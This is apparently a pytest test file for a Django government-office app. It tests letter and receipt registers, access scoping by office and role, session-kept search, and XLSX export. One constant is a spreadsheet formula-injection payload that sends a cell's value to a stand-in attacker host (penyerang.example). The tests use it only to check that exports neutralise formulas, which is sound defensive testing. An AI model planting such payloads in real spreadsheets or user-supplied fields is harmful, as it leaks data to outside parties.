"""The registers (buku agenda): letters issued and receipts given, scoped to office and role,
searched by POST with the search in the session, exported to XLSX, letters reprinted as stored."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from layanan.demo import FRASA_TTD_DEMO
from layanan.models import AksesData, JenisAkses, Layanan, Pemohon, Pengguna, Peran, Surat
from layanan.surat.services import surat_cabut, surat_terbitkan_ulang
from tests.factories import daftar, sampai_selesai
from tests.views.test_tugas import _masuk

pytestmark = pytest.mark.django_db

REGISTER_SURAT = reverse("layanan:register-surat")
REGISTER_TANDA_TERIMA = reverse("layanan:register-tanda-terima")
XLSX_SURAT = reverse("layanan:register-surat-xlsx")
XLSX_TANDA_TERIMA = reverse("layanan:register-tanda-terima-xlsx")
HYPERLINK = '=HYPERLINK("https://penyerang.example/?d="&A1,"Klik")'
NIK_TIDAK_TERDAFTAR = "3572026207920003"  # tests/factories KASUS["blitar"]


def _surat(kantor: str = "blitar", *, nama: str, terdaftar: bool = True) -> Surat:
    p = daftar(kantor, terdaftar=terdaftar)
    p.pemohon.nama = nama
    p.pemohon.save()
    sampai_selesai(p)
    return Surat.objects.get(permohonan=p)


@pytest.fixture
def dua_surat() -> tuple[Surat, Surat]:
    """Two letters of office A (Blitar): Budi's signed first, Sari's second."""
    return _surat(nama="Budi Santoso"), _surat(nama="Sari Dewi", terdaftar=False)


def _baris(response) -> list[str]:
    """The register table's rows as text, one string a row."""
    isi = response.content.decode()
    tbody = re.search(r"<tbody>(.*?)</tbody>", isi, re.S)
    assert tbody is not None
    return [
        " ".join(re.sub(r"<[^>]+>", " ", tr).split())
        for tr in re.findall(r"<tr>(.*?)</tr>", tbody.group(1), re.S)
    ]


def _xlsx(response) -> list[list[object]]:
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    lembar = load_workbook(io.BytesIO(response.content)).active
    return [[sel.value for sel in baris] for baris in lembar.iter_rows()]


# ---------------------------------------------------------------------------
# What the letter register shows
# ---------------------------------------------------------------------------
def test_the_letter_register_lists_the_offices_letters_newest_first(petugas_a, dua_surat):
    budi, sari = dua_surat
    baris = _baris(petugas_a.get(REGISTER_SURAT))
    assert len(baris) == 2
    assert baris[0].startswith(sari.nomor) and baris[1].startswith(budi.nomor)
    layanan = Layanan.objects.get(kantor__kode="blitar", kode="kip")
    for teks, surat in zip(baris, (sari, budi), strict=True):
        assert surat.permohonan.pemohon.nama in teks
        assert layanan.nama_tampil in teks
        assert surat.pejabat.nama in teks
        assert "Sah" in teks
        assert "Diterima oleh pemohon sendiri" in teks  # handed over, to whom
        assert timezone.localtime(surat.diserahkan_pada).strftime("%H:%M") in teks


def test_a_revoked_and_a_replaced_letter_say_so_and_name_each_other(petugas_a, dua_surat):
    budi, sari = dua_surat
    kadin = Pengguna.objects.get(username="blitar.kadin")
    surat_cabut(surat=sari, oleh=kadin, alasan="Salah nama")
    surat_cabut(surat=budi, oleh=kadin, alasan="Salah alamat")
    baru = surat_terbitkan_ulang(
        surat=budi, oleh=kadin, frasa_sandi=FRASA_TTD_DEMO, url_verifikasi="http://t/v/{token}/"
    )
    baris = {b.split(" ")[0]: b for b in _baris(petugas_a.get(REGISTER_SURAT))}
    assert "Dicabut" in baris[sari.nomor] and "Salah nama" in baris[sari.nomor]
    assert "Diganti" in baris[budi.nomor] and f"diganti dengan {baru.nomor}" in baris[budi.nomor]
    assert "Sah" in baris[baru.nomor] and f"menggantikan {budi.nomor}" in baris[baru.nomor]
    assert "Belum" in baris[baru.nomor]  # the replacement is not handed over yet


def test_the_navbar_links_the_registers_for_office_staff(petugas_a):
    halaman = petugas_a.get(reverse("layanan:tugas-saya")).content.decode()
    assert f'href="{REGISTER_SURAT}"' in halaman
    register = petugas_a.get(REGISTER_SURAT).content.decode()
    assert re.search(rf'href="{REGISTER_TANDA_TERIMA}"\s*>', register)  # the other tab
    assert re.search(rf'href="{REGISTER_SURAT}"\s*aria-current="page"', register)


def test_the_register_is_for_signed_in_staff_only(client):
    for url in (REGISTER_SURAT, XLSX_SURAT, REGISTER_TANDA_TERIMA, XLSX_TANDA_TERIMA):
        assert client.get(url)["Location"].startswith(reverse("login"))


# ---------------------------------------------------------------------------
# Who sees what
# ---------------------------------------------------------------------------
def test_another_office_sees_nothing_of_office_a(dua_surat, admin_b):
    bima = _masuk("bima.operator")
    p_b = daftar("bima")
    for client in (bima, admin_b):
        assert _baris(client.get(REGISTER_SURAT)) == ["Tidak ada surat yang cocok."]
        assert len(_xlsx(client.get(XLSX_SURAT))) == 1  # the header only
        tanda_terima = _baris(client.get(REGISTER_TANDA_TERIMA))
        assert all("Budi" not in b and "Sari" not in b for b in tanda_terima)
    # Bima's own application is in Bima's register, never in Blitar's (numbers are per office,
    # so both have 00001/REG: the name tells them apart).
    Pemohon.objects.filter(pk=p_b.pemohon_id).update(nama="Warga Bima")
    assert "Warga Bima" in " ".join(_baris(bima.get(REGISTER_TANDA_TERIMA)))
    petugas_a = _masuk("blitar.petugas")
    assert "Warga Bima" not in " ".join(_baris(petugas_a.get(REGISTER_TANDA_TERIMA)))
    # Searching by a service of office A is refused, not answered.
    kip_a = Layanan.objects.get(kantor__kode="blitar", kode="kip")
    jawab = bima.post(REGISTER_SURAT, {"layanan": kip_a.pk})
    assert "Masukkan pilihan yang valid" in jawab.content.decode()


def test_a_role_not_working_on_the_service_sees_nothing(dua_surat, kantor_a):
    bendahara = Peran.objects.create(kantor=kantor_a, kode="bendahara", nama="Bendahara")
    orang = Pengguna.objects.create_user(
        "blitar.bendahara", password="x-Rahasia-123", kantor=kantor_a
    )
    orang.peran.add(bendahara)
    client = _masuk_dengan(orang, "x-Rahasia-123")
    assert _baris(client.get(REGISTER_SURAT)) == ["Tidak ada surat yang cocok."]
    assert _baris(client.get(REGISTER_TANDA_TERIMA)) == ["Tidak ada permohonan yang cocok."]
    assert len(_xlsx(client.get(XLSX_SURAT))) == 1
    surat = dua_surat[0]
    unduh = client.get(reverse("layanan:surat-unduh", args=[surat.permohonan_id, surat.pk]))
    assert unduh.status_code == 404
    # The office administrator holds no role in the SOP either.
    assert _baris(_masuk("blitar.admin").get(REGISTER_SURAT)) == ["Tidak ada surat yang cocok."]


def _masuk_dengan(user: Pengguna, sandi: str):
    from django.test import Client

    client = Client()
    assert client.login(username=user.username, password=sandi)
    return client


# ---------------------------------------------------------------------------
# Search: by POST, kept in the session
# ---------------------------------------------------------------------------
def _cari(client, url: str = REGISTER_SURAT, **data: object) -> list[str]:
    jawab = client.post(url, data)
    assert jawab.status_code == 302 and jawab["Location"] == url
    return _baris(client.get(url))


def test_search_by_letter_number(petugas_a, dua_surat):
    budi = dua_surat[0]
    baris = _cari(petugas_a, nomor=f" {budi.nomor} ")
    assert len(baris) == 1 and baris[0].startswith(budi.nomor)


def test_search_by_applicant_name_in_any_case(petugas_a, dua_surat):
    baris = _cari(petugas_a, nama="sari  DEWI")
    assert len(baris) == 1 and dua_surat[1].nomor in baris[0]


def test_search_by_nik_typed_with_spaces(petugas_a, dua_surat):
    baris = _cari(petugas_a, nik="3572 0262 0792 0003")
    assert len(baris) == 1 and dua_surat[1].nomor in baris[0]


def test_search_by_service(petugas_a, dua_surat):
    kip = Layanan.objects.get(kantor__kode="blitar", kode="kip")
    assert len(_cari(petugas_a, layanan=kip.pk)) == 2


def test_search_by_a_range_of_days_of_the_offices_calendar(petugas_a, dua_surat):
    budi, sari = dua_surat
    # Budi's letter signed at 00:30 WIB on 2 March: still 1 March in UTC.
    zona = budi.kantor.zona
    Surat.objects.filter(pk=budi.pk).update(
        ditandatangani_pada=dt.datetime(2026, 3, 2, 0, 30, tzinfo=zona)
    )
    Surat.objects.filter(pk=sari.pk).update(
        ditandatangani_pada=dt.datetime(2026, 3, 5, 9, 0, tzinfo=zona)
    )
    assert [b.split(" ")[0] for b in _cari(petugas_a, dari="02/03/2026", sampai="2/3/2026")] == [
        budi.nomor
    ]
    assert [b.split(" ")[0] for b in _cari(petugas_a, dari="03/03/2026")] == [sari.nomor]
    assert len(_cari(petugas_a, sampai="05/03/2026")) == 2
    assert _cari(petugas_a, sampai="01/03/2026") == ["Tidak ada surat yang cocok."]


def test_the_search_is_kept_across_pages_and_cleared_on_request(petugas_a, dua_surat):
    _cari(petugas_a, nama="Budi")
    assert len(_baris(petugas_a.get(REGISTER_SURAT + "?hal=1"))) == 1
    jawab = petugas_a.post(REGISTER_SURAT, {"aksi": "hapus"})
    assert jawab["Location"] == REGISTER_SURAT
    assert len(_baris(petugas_a.get(REGISTER_SURAT))) == 2


@pytest.mark.parametrize(
    ("data", "pesan"),
    [
        ({"nik": "357202620792000"}, "NIK harus 16 digit; yang diketik 15 digit."),
        ({"nik": "3572O26207920003"}, "NIK hanya boleh berisi angka."),
        ({"dari": "31/02/2026"}, "Ketik tanggal yang ada"),
        ({"dari": "05/03/2026", "sampai": "01/03/2026"}, "Tanggal akhir lebih awal"),
        ({"layanan": "999999"}, "Masukkan pilihan yang valid"),
        ({"layanan": "abc"}, "Masukkan pilihan yang valid"),
    ],
)
def test_bad_search_input_says_what_is_wrong_in_indonesian(petugas_a, data, pesan):
    jawab = petugas_a.post(REGISTER_SURAT, data)
    assert jawab.status_code == 200
    isi = jawab.content.decode()
    assert pesan in isi
    assert "Pencarian tidak dijalankan" in isi


def test_the_nik_never_appears_in_a_url(petugas_a, dua_surat):
    for url in (REGISTER_SURAT, REGISTER_TANDA_TERIMA):
        jawab = petugas_a.post(url, {"nik": NIK_TIDAK_TERDAFTAR})
        assert NIK_TIDAK_TERDAFTAR not in jawab["Location"]
        halaman = petugas_a.get(url).content.decode()
        assert f'value="{NIK_TIDAK_TERDAFTAR}"' in halaman  # kept, in the form's body
        for tautan in re.findall(r'(?:href|action|src)="([^"]*)"', halaman):
            assert NIK_TIDAK_TERDAFTAR not in tautan
    assert petugas_a.get(XLSX_SURAT).status_code == 200  # the export needs none either


# ---------------------------------------------------------------------------
# XLSX export
# ---------------------------------------------------------------------------
def test_the_xlsx_export_holds_the_current_result_neutralised_and_logged(petugas_a, dua_surat):
    budi, sari = dua_surat
    Pemohon.objects.filter(pk=budi.permohonan.pemohon_id).update(nama=HYPERLINK)
    semua = _xlsx(petugas_a.get(XLSX_SURAT))
    assert semua[0][:5] == [
        "Nomor surat",
        "Ditandatangani pada",
        "Layanan",
        "Nomor registrasi",
        "Pemohon",
    ]
    assert [b[0] for b in semua[1:]] == [sari.nomor, budi.nomor]
    baris_budi = semua[2]
    assert baris_budi[4] == "'" + HYPERLINK  # text, never a formula
    assert isinstance(baris_budi[1], dt.datetime)  # a real date, sortable in the sheet
    # In the office's time (WIB for Blitar), as the page shows it; Excel keeps milliseconds.
    lokal = timezone.localtime(budi.ditandatangani_pada, budi.kantor.zona).replace(tzinfo=None)
    assert abs(baris_budi[1] - lokal) < dt.timedelta(seconds=1)
    assert baris_budi[7] == "Sah" and baris_budi[12] == "Diterima oleh pemohon sendiri"
    buku = load_workbook(io.BytesIO(petugas_a.get(XLSX_SURAT).content))
    assert all(sel.data_type != "f" for baris in buku.active.iter_rows() for sel in baris)
    # Only what the search found, and each application in it on the citizen's data trail.
    AksesData.objects.all().delete()
    _cari(petugas_a, nama="Sari")
    hasil = _xlsx(petugas_a.get(XLSX_SURAT))
    assert [b[0] for b in hasil[1:]] == [sari.nomor]
    akses = AksesData.objects.get()
    assert (akses.permohonan_id, akses.jenis) == (sari.permohonan_id, JenisAkses.CETAK)
    assert akses.pengguna.username == "blitar.petugas"


# ---------------------------------------------------------------------------
# Reprint
# ---------------------------------------------------------------------------
def test_the_reprint_is_the_stored_letter_byte_for_byte_and_logged(petugas_a, dua_surat):
    budi = dua_surat[0]
    halaman = petugas_a.get(REGISTER_SURAT).content.decode()
    url = reverse("layanan:surat-unduh", args=[budi.permohonan_id, budi.pk])
    assert f'href="{url}"' in halaman
    AksesData.objects.all().delete()
    jawab = petugas_a.get(url)
    assert jawab["Content-Type"] == "application/pdf"
    with budi.berkas.open("rb") as f:
        assert b"".join(jawab.streaming_content) == f.read()
    assert AksesData.objects.get().keterangan == budi.nomor


# ---------------------------------------------------------------------------
# The receipt register
# ---------------------------------------------------------------------------
def test_the_receipt_register_lists_numbers_and_not_accepted_attempts(petugas_a):
    diterima = daftar("blitar")
    ditolak = daftar("blitar", lengkap=False)
    baris = _baris(petugas_a.get(REGISTER_TANDA_TERIMA))
    assert len(baris) == 2
    assert "tanpa nomor" in baris[0] and "Tidak diterima" in baris[0]
    assert "SKTM belum ada" in baris[0]  # what was missing
    assert baris[1].startswith(diterima.nomor_registrasi)
    halaman = petugas_a.get(REGISTER_TANDA_TERIMA).content.decode()
    assert f'href="{reverse("layanan:tanda-terima", args=[ditolak.pk])}"' in halaman
    lembar = _xlsx(petugas_a.get(XLSX_TANDA_TERIMA))
    assert lembar[0][0] == "Nomor registrasi"
    assert [b[0] for b in lembar[1:]] == [None, diterima.nomor_registrasi]
    assert (
        lembar[1][5] == "Tidak diterima: berkas tidak lengkap" and lembar[1][7] == "SKTM belum ada"
    )


def test_the_receipt_register_searches_by_number_name_nik_and_day(petugas_a):
    budi = daftar("blitar")
    sari = daftar("blitar", terdaftar=False)
    sari.pemohon.nama = "Sari Dewi"
    sari.pemohon.save()
    url = REGISTER_TANDA_TERIMA
    assert [b.split(" ")[0] for b in _cari(petugas_a, url, nomor=budi.nomor_registrasi)] == [
        budi.nomor_registrasi
    ]
    assert [b.split(" ")[0] for b in _cari(petugas_a, url, nama="dewi")] == [sari.nomor_registrasi]
    assert [b.split(" ")[0] for b in _cari(petugas_a, url, nik=NIK_TIDAK_TERDAFTAR)] == [
        sari.nomor_registrasi
    ]
    hari_ini = timezone.localdate(timezone=budi.kantor.zona).strftime("%d/%m/%Y")
    assert len(_cari(petugas_a, url, dari=hari_ini, sampai=hari_ini)) == 2
    kemarin = (timezone.localdate(timezone=budi.kantor.zona) - dt.timedelta(days=1)).strftime(
        "%d/%m/%Y"
    )
    assert _cari(petugas_a, url, sampai=kemarin) == ["Tidak ada permohonan yang cocok."]
    # Each register keeps its own search: the letter register's is still empty.
    assert "pencarian diterapkan" not in petugas_a.get(REGISTER_SURAT).content.decode()


@pytest.mark.parametrize("url", [REGISTER_SURAT, REGISTER_TANDA_TERIMA])
def test_garbage_never_gives_a_500(url):
    from tests.views.test_tanpa_500 import SAMPAH
    from tests.views.test_tanpa_500 import _masuk as _masuk_tanpa_galat

    client = _masuk_tanpa_galat("blitar.petugas")
    for data in [*SAMPAH, {"nama": "a\x00b", "dari": "99/99/9999", "sampai": "x" * 5000}]:
        assert client.post(url, data).status_code < 500, data
        assert client.get(url).status_code == 200
    for hal in ("abc", "-1", "99999999999999999999999"):
        assert client.get(f"{url}?hal={hal}").status_code == 200
